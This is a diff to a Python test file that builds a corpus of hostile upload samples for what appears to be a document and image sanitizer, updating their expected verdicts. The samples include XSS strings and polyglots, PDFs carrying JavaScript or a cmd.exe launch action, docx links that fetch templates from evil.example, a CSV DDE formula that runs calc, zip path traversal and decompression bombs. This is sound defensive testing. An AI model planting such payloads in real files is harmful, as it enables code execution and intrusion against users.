@@ -11,14 +11,17 @@ from typing import Any
 from PIL import Image
 from PIL.PngImagePlugin import PngInfo
 
+from tests.documents.samples import make_office
 from tests.stakeholders.test_evidence_files import png_of
 
 # Must be nowhere in what is kept of a picture.
 SECRET = b"34.1478N-118.1445W"
 SCRIPT = b"<script>alert(document.cookie)</script>"
-KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
-RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
-PDF = b"%%PDF-1.7\n1 0 obj<</Type/Catalog %s>>endobj\n%s\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
+# One page: what the catalog has besides, and further objects from the fourth on.
+PDF = (
+    b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R %s>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n%s\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
+)
 
 
 @dataclass(frozen=True)
@@ -65,15 +68,13 @@ def zipped(members: dict[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED)
 
 def word(**more: bytes | str) -> bytes:
     """A document with further parts; "/" is "__" in their names, "." is "_0_"."""
-    named = {name.replace("__", "/").replace("_0_", "."): content for name, content in more.items()}
-    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:p/>", **named})
+    parts = {name.replace("__", "/").replace("_0_", "."): content for name, content in more.items()}
+    return make_office(".docx", parts=parts)
 
 
 def linked(kind: str, target: str) -> bytes:
     """A document that names something elsewhere."""
-    link = f'<Relationship Id="a" Type="{KINDS}{kind}" Target="{target}" TargetMode="External"/>'
-    rels = f'<Relationships xmlns="{RELATIONSHIPS}">{link}</Relationships>'
-    return word(word___rels__document_0_xml_0_rels=rels)
+    return make_office(".docx", links=((kind, target, True),))
 
 
 def packed_pdf(
@@ -81,7 +82,7 @@ def packed_pdf(
 ) -> bytes:
     """What it does stands in a packed object, where no search for words finds it."""
     stream = packed(inside)
-    body = b"2 0 obj<</Type/%s/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n%s\r\nendstream endobj"
+    body = b"4 0 obj<</Type/%s/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n%s\r\nendstream endobj"
     return PDF % (b"", body % (name, len(stream), stream))
 
 
@@ -100,44 +101,44 @@ CORPUS = (
     Hostile("drawing.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "wrong-kind"),
     Hostile("script.gif", lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)", "wrong-kind"),
     Hostile("script.jpg", lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)", "wrong-kind"),
-    Hostile("script.webp", lambda: b"RIFF/*\0\0WEBPVP8 */=1;alert(1)", "broken"),
+    Hostile("script.webp", lambda: b"RIFF/*\0\0WEBPVP8 */=1;alert(1)", "broken-picture"),
     Hostile("photo.jpg", located, "kept"),
     Hostile("photo.png", commented, "kept"),
     Hostile("huge.png", lambda: png_of(50_000, 50_000), "too-many-pixels"),
     Hostile("long.png", lambda: png_of(1, 2**31 - 1), "too-many-pixels"),
-    Hostile("half.png", lambda: picture()[:40], "broken"),
+    Hostile("half.png", lambda: picture()[:40], "broken-picture"),
     Hostile("moving.png", lambda: picture("GIF"), "wrong-kind"),
     Hostile("empty.pdf", lambda: b"", "wrong-kind"),
     Hostile("behind.pdf", lambda: SCRIPT + PDF % (b"", b""), "wrong-kind"),
     Hostile("plain.pdf", lambda: PDF % (b"", b""), "kept"),
     Hostile("form.pdf", lambda: packed_pdf(b"2 0 <</Type/Annot/A<</S/URI/URI(https://x.example)>>>>"), "kept"),
-    Hostile("script.pdf", lambda: PDF % (RUNS, b""), "active"),
-    Hostile("spelt.pdf", lambda: PDF % (RUNS.replace(b"/JavaScript", b"/J#61va#53cript"), b""), "active"),
-    Hostile("starts.pdf", lambda: PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), "active"),
-    Hostile("packed.pdf", lambda: packed_pdf(b"2 0 " + RUNS), "active"),
-    Hostile("packed-spelt.pdf", lambda: packed_pdf(b"2 0 " + RUNS, name=b"Obj#53tm"), "active"),
-    Hostile("locked.pdf", lambda: packed_pdf(RUNS, packed=bytes.swapcase), "active"),
-    Hostile("bomb.pdf", lambda: packed_pdf(bytes(80 << 20)), "active"),
+    Hostile("script.pdf", lambda: PDF % (RUNS, b""), "kept"),
+    Hostile("spelt.pdf", lambda: PDF % (RUNS.replace(b"/JavaScript", b"/J#61va#53cript"), b""), "kept"),
+    Hostile("starts.pdf", lambda: PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), "kept"),
+    Hostile("packed.pdf", lambda: packed_pdf(b"2 0 " + RUNS), "kept"),
+    Hostile("packed-spelt.pdf", lambda: packed_pdf(b"2 0 " + RUNS, name=b"Obj#53tm"), "kept"),
+    Hostile("locked.pdf", lambda: packed_pdf(RUNS, packed=bytes.swapcase), "kept"),
+    Hostile("bomb.pdf", lambda: packed_pdf(bytes(80 << 20)), "kept"),
     Hostile("plain.docx", word, "kept"),
     Hostile("pressed.docx", lambda: linked("hyperlink", "https://x.example/"), "kept"),
-    Hostile("template.docx", lambda: linked("attachedTemplate", "https://evil.example/a.dotm"), "fetches"),
-    Hostile("beacon.docx", lambda: linked("image", "https://evil.example/1.png"), "fetches"),
-    Hostile("object.docx", lambda: linked("oleObject", "file:////evil.example/share/a"), "fetches"),
-    Hostile("entities.docx", lambda: word(a_0_rels=ENTITIES), "wrong-kind"),
-    Hostile("macros.docx", lambda: word(word__vbaProject_0_bin=b"x"), "wrong-kind"),
-    Hostile("active.docx", lambda: word(word__activeX__activeX1_0_bin=b"x"), "wrong-kind"),
-    Hostile("bomb.docx", lambda: word(word__media__a_0_bin=bytes(30 << 20)), "wrong-kind"),
-    Hostile("crowded.docx", crowded, "wrong-kind"),
-    Hostile("above.docx", lambda: word(**{"..__..__..__etc__passwd": b"x"}), "kept"),
-    Hostile("macros.odt", lambda: zipped({"mimetype": ODT, "Basic/a.xml": b""}), "wrong-kind"),
+    Hostile("template.docx", lambda: linked("attachedTemplate", "https://evil.example/a.dotm"), "active"),
+    Hostile("beacon.docx", lambda: linked("image", "https://evil.example/1.png"), "active"),
+    Hostile("object.docx", lambda: linked("oleObject", "file:////evil.example/share/a"), "active"),
+    Hostile("entities.docx", lambda: word(a_0_rels=ENTITIES), "unsafe-package"),
+    Hostile("macros.docx", lambda: word(word__vbaProject_0_bin=b"x"), "active"),
+    Hostile("active.docx", lambda: word(word__activeX__activeX1_0_bin=b"x"), "active"),
+    Hostile("bomb.docx", lambda: word(word__media__a_0_bin=bytes(30 << 20)), "too-much"),
+    Hostile("crowded.docx", crowded, "unsafe-package"),
+    Hostile("above.docx", lambda: word(**{"..__..__..__etc__passwd": b"x"}), "unsafe-package"),
+    Hostile("macros.odt", lambda: zipped({"mimetype": ODT, "Basic/a.xml": b""}), "active"),
     Hostile("package.xlsx", lambda: zipped({"a.exe": b"MZ"}), "wrong-kind"),
     Hostile("run.exe", lambda: b"MZ\x90\0" + bytes(100), "wrong-kind"),
     Hostile("old.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(100), "wrong-kind"),
     Hostile("macro.docm", word, "wrong-kind"),
     Hostile("shortcut.url", lambda: b"[InternetShortcut]\nURL=file:////evil/a", "wrong-kind"),
-    Hostile("nul.txt", lambda: b"a\0b", "wrong-kind"),
+    Hostile("nul.txt", lambda: b"a\0b", "not-text"),
     Hostile("page.txt", lambda: b"<!DOCTYPE html>" + SCRIPT, "kept"),
-    Hostile("formula.csv", lambda: b"a\r\n=cmd|'/c calc'!A1\r\n", "kept"),
+    Hostile("formula.csv", lambda: b"a\r\n=cmd|'/c calc'!A1\r\n", "active"),
     Hostile("song.mp3", lambda: b"ID3=1/*\0\0*/;alert(1)" + bytes(60), "kept"),
 )  # fmt: skip
 # Names of files that are fine.
